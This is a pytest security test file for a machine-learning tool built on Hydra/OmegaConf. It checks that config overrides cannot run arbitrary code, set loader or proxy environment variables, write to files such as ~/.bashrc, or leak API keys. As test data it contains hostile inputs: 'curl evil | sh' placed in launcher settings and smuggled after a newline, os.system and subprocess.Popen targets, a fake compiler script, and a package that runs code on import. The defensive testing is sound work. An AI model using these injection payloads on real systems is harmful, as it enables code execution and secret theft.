"""A config is data: whatever it names, nothing is imported, called or run that is not on a list."""

import sys

import pytest
from hydra import compose, initialize_config_dir
from omegaconf import OmegaConf

from deltalab import allowed, cli, settings
from deltalab.run import building
from deltalab.sweep import composing
from deltalab.terminal.mistakes import mistakes

QUICK = ("riemann=off", "evaluator=none", "data.objective.limit=8")
CODE = "deltalab.evaluators.lm.run_code.passes"


def composed(*overrides):
    """Compose as the command does, with its checks."""
    with initialize_config_dir(str(settings.conf_dir()), version_base="1.3"), composing.guarded():
        return compose("config", list(overrides), return_hydra_config=True)


def evil(canary):
    return f"{{_target_: {CODE}, program: \"open('{canary}','w')\"}}"


@pytest.mark.parametrize(
    "arguments",
    [
        ["+hydra.callbacks.x=${evil}", "+evil=EVIL"],
        ["+hydra.callbacks.x=EVIL"],
        ["+hydra.callbacks.x.y=EVIL", "+hydra.callbacks.x._target_=deltalab.edits.keep.Keep"],
        ["hydra.callbacks=${evil}", "+evil.x=EVIL"],
        ["+hydra.callbacks.x='${oc.create:${evil}}'", "+evil=EVIL"],
        ["+hydra.callbacks.x='${evil.${now:%Y}}'", "+evil={2020: 1}"],
        ["-m", "+hydra.launcher.x=EVIL"],
        ["-m", "+hydra.launcher.x=${evil}", "+evil=EVIL"],
        ["-m", "hydra/launcher=workers", "+hydra.launcher.x=EVIL"],
        ["-m", "hydra/launcher=workers", "+hydra.launcher.x=[EVIL]"],
        ["-m", "+hydra.sweeper.params.x=EVIL"],
        ["-m", "+hydra.sweeper.params.x=${evil}", "+evil=EVIL"],
        ["-m", "hydra.sweeper._target_=hydra_plugins.deltalab_launchers.Workers"],
        ["-m", f"hydra.launcher._target_={CODE}"],
        ["-m", "hydra.launcher._target_=hydra_plugins.deltalab_launchers.os.system"],
        ["-m", f"sweeps=[{{+hydra.callbacks.x._target_: {CODE}}}]"],
        ["+hydra.job_logging.filters.q=EVIL"],
        ["+hydra.job_logging.handlers.q=${evil}", "+evil=EVIL"],
        ["hydra.hydra_logging=${evil}", "+evil.handlers=EVIL"],
    ],
    ids=" ".join,
)  # fmt: skip
def test_what_hydra_calls_by_name_is_refused_and_does_not_run(
    arguments, tmp_path, monkeypatch, capfd
):
    """On the code before, a callback by interpolation and nested targets ran any program."""
    canary = tmp_path / "canary"
    given = [argument.replace("EVIL", evil(canary)) for argument in arguments]
    monkeypatch.setattr(sys, "argv", ["deltalab", *given, *QUICK, f"results={tmp_path / 'r'}"])
    with pytest.raises(SystemExit) as stop:
        cli.main()
    err = capfd.readouterr().err
    assert not canary.exists()
    assert stop.value.code == 2
    assert err.startswith("deltalab: hydra.")
    assert "only targets of deltalab" in err or "must be written out" in err
    assert err.count("\n") == 1, err
    assert not (tmp_path / "r" / "records").exists()


@pytest.mark.parametrize(
    ("override", "part"),
    [
        ("+hydra.job_logging.handlers.x.class=subprocess.Popen", "only handlers of logging"),
        ("+hydra.job_logging.handlers.x.class=logging.os.spawnlp", "only handlers of logging"),
        ("+hydra.job_logging.handlers.x.class=logging.handlers.SocketHandler", "only handlers"),
        ("+hydra.job_logging.handlers.x.class=${name}", "only handlers of logging"),
        (
            "+hydra.hydra_logging.formatters.x.class=deltalab.run.building.build",
            "only handlers of logging",
        ),
        ("+hydra.job_logging.formatters.x={\\(\\): os.system}", "only handlers of logging"),
        ("hydra.job_logging.handlers.console.stream=ext://antigravity.fly", "ext://sys.stderr"),
        ("hydra.job_logging.handlers.console.stream=${seed}", "must be a plain value"),
        ("hydra.job_logging.handlers.file.filename=/home/me/.bashrc", "NAME.log"),
        ("hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/.bashrc", "NAME"),
        ("hydra.job.name=../../x", "must be a plain name"),
        ("hydra.output_subdir=..", "must be a plain name"),
        ("hydra.output_subdir=/etc", "must be a plain name"),
    ],
)
def test_logging_imports_nothing_and_writes_its_own_files_alone(override, part):
    with pytest.raises(ValueError, match="hydra.") as caught:
        composed(override)
    assert part in str(caught.value)


@pytest.mark.parametrize(
    "name",
    ["CC", "PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "HF_ENDPOINT",
     "HF_HUB_ENDPOINT", "WANDB_BASE_URL", "OPENAI_BASE_URL", "DELTALAB_JUDGE_URL", "TORCH_HOME",
     "http_proxy", "TMPDIR", "HOME", "SSL_CERT_FILE", "IFS"],
)  # fmt: skip
def test_a_config_sets_no_variable_that_is_run_loaded_or_an_address(name, monkeypatch):
    monkeypatch.setenv(name, "a-value-not-to-be-shown")
    for override in (f"+hydra.job.env_set.{name}=/x", f"hydra.job.env_copy=[{name}]"):
        with pytest.raises(ValueError, match=f"may not set {name}; it may set") as caught:
            composed(override)
        assert "not-to-be-shown" not in str(caught.value)
    with pytest.raises(ValueError, match="must be written out"):
        composed("hydra.job.env_set=${evil}", f"+evil.{name}=/x")
    with pytest.raises(ValueError, match="must be written out"):
        composed("hydra.job.env_set='${evil.${hydra.job.num}}'", f"+evil.0.{name}=/x")


def test_threads_and_devices_may_be_set():
    cfg = composed("+hydra.job.env_set.OMP_NUM_THREADS=2", "+hydra.job.env_set.HF_HUB_OFFLINE=1")
    assert cfg.hydra.job.env_set == {"OMP_NUM_THREADS": "2", "HF_HUB_OFFLINE": "1"}


def test_the_compiler_is_the_one_the_person_had_when_the_process_began(monkeypatch, tmp_path):
    from deltalab.kernels import native

    canary = tmp_path / "canary"
    fake = tmp_path / "cc"
    fake.write_text(f'#!/bin/sh\ntouch {canary}\nexec cc "$@"\n')
    fake.chmod(0o755)
    monkeypatch.setenv("CC", str(fake))
    native._compiled.cache_clear()
    with pytest.raises(AttributeError):  # it has neither of the two functions, but it compiles
        native._compiled("int one(void) { return 1; }")
    assert not canary.exists()


def hydra_of(**launcher):
    cfg = composed("hydra/launcher=slurm")
    OmegaConf.set_struct(cfg, False)
    cfg.hydra.launcher.update(launcher)
    return cfg.hydra


@pytest.mark.parametrize(
    "launcher",
    [
        {"slurm_setup": ["curl evil | sh"]},
        {"slurm_additional_parameters": {"export": "LD_PRELOAD=/x"}},
        {"slurm_python": "/tmp/evil"},
        {"python": "/tmp/evil"},
        {"slurm_srun_args": ["--x"]},
    ],
    ids=str,
)
def test_what_a_launcher_runs_is_typed_by_the_person(launcher):
    hydra = hydra_of(**launcher)
    (name,) = launcher
    with pytest.raises(ValueError, match=f"hydra.launcher.{name}.*on the command line"):
        allowed.check_hydra(hydra, ["edit=dare", "hydra.launcher.tasks=2"])
    for typed in (f"hydra.launcher.{name}=[a]", f"+hydra.launcher.{name}={{a: b}}"):
        allowed.check_hydra(hydra, [typed])


def test_a_cluster_is_chosen_by_the_person():
    address = "hydra.launcher.init.address=ray://somewhere:10001"
    cfg = composed("hydra/launcher=ray", address)
    with pytest.raises(ValueError, match="init.address=ray://somewhere.* on the command line"):
        allowed.check_hydra(cfg.hydra, ["hydra/launcher=ray"])


def test_no_second_line_in_what_a_batch_script_is_made_of():
    with pytest.raises(ValueError, match="must be one line of plain text"):
        allowed.check_hydra(hydra_of(slurm_partition="x\ncurl evil | sh"), ["a"])


def test_configs_are_looked_for_in_directories_never_in_packages(tmp_path, monkeypatch):
    package = tmp_path / "evilpackage"
    package.mkdir()
    (package / "__init__.py").write_text(f"open({str(tmp_path / 'canary')!r}, 'w')")
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ValueError, match="pkg://evilpackage.*would run a package"):
        composed("hydra.searchpath=[pkg://evilpackage]")
    own = tmp_path / "mine.yaml"
    own.write_text("defaults: [config]\nhydra: {searchpath: ['pkg://evilpackage']}\n")
    with (
        initialize_config_dir(str(tmp_path), version_base="1.3"),
        composing.guarded(),
        pytest.raises(ValueError, match="would run a package"),
    ):
        compose("mine")
    assert not (tmp_path / "canary").exists()
    composed(f"hydra.searchpath=[file://{tmp_path}]")


def test_the_targets_are_those_of_the_configs_exactly():
    known = settings.allowed_targets()
    assert "deltalab.edits.dare.Dare" in known
    assert CODE not in known
    for target in (
        "deltalab.run.point.Point",
        "deltalab.store.records.path_of",
        "deltalab.store.locks.Busy",
        CODE,
    ):
        with pytest.raises(ValueError, match="only targets of deltalab"):
            building.build({"_target_": target}, "edit")
    for target in known - settings.allowed_targets("hydra"):
        assert isinstance(settings._dataclass_of(target, "x"), type)


@pytest.mark.parametrize(
    "reference",
    ["${oc.env:OPENAI_API_KEY}", "${oc.env:OPENAI_API_KEY,none}", "a ${oc.env:OPENAI_API_KEY} b",
     "${oc.decode:${oc.env:OPENAI_API_KEY}}", "${oc.${kind}:OPENAI_API_KEY}",
     "${oc.env:${name}}", "${oc.create:{a:${oc.env:OPENAI_API_KEY}}}"],
)  # fmt: skip
def test_a_config_reads_few_variables_and_names_the_one_it_may_not(reference, monkeypatch):
    """On the code before, any of these put the key into a request, a record or a path."""
    secret = "sk-0123456789abcdef"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    allowed.restrict_environment()
    cfg = OmegaConf.create({"x": reference, "kind": "env", "name": "OPENAI_API_KEY"})
    with pytest.raises(Exception, match="may not read OPENAI_API_KEY from the environm") as caught:
        OmegaConf.to_container(cfg, resolve=True)
    assert secret not in str(caught.value)
    assert isinstance(caught.value, mistakes())


def test_a_config_may_read_where_things_lie(monkeypatch):
    allowed.restrict_environment()
    monkeypatch.setenv("HOME", "/home/me")
    monkeypatch.delenv("SCRATCH", raising=False)
    cfg = OmegaConf.create({"a": "${oc.env:HOME}/x", "b": "${oc.env:SCRATCH,/tmp}"})
    assert OmegaConf.to_container(cfg, resolve=True) == {"a": "/home/me/x", "b": "/tmp"}


def test_every_resolver_is_known_to_read_no_secret():
    """A resolver that reads files or the environment would be a way past the list."""
    from omegaconf.basecontainer import BaseContainer

    composed()
    found = set(BaseContainer._resolvers)
    assert found == {
        "oc.create", "oc.decode", "oc.deprecated", "oc.dict.keys", "oc.dict.values", "oc.env",
        "oc.select", "now", "hydra", "python_version",
    }  # fmt: skip


def test_no_secret_is_asked_of_a_hub_or_names_a_run(monkeypatch):
    from deltalab.models import hub
    from deltalab.tracking.trackers import Wandb

    monkeypatch.setenv("HF_TOKEN", "hf_0123456789")
    with pytest.raises(ValueError, match="model.pre: what HF_TOKEN holds is not asked of the hub"):
        hub.identity("evil/hf_0123456789", "model.pre")
    for field in ("project", "entity", "group"):
        with pytest.raises(ValueError, match="tracker: what HF_TOKEN holds"):
            Wandb(**{field: "a hf_0123456789"})
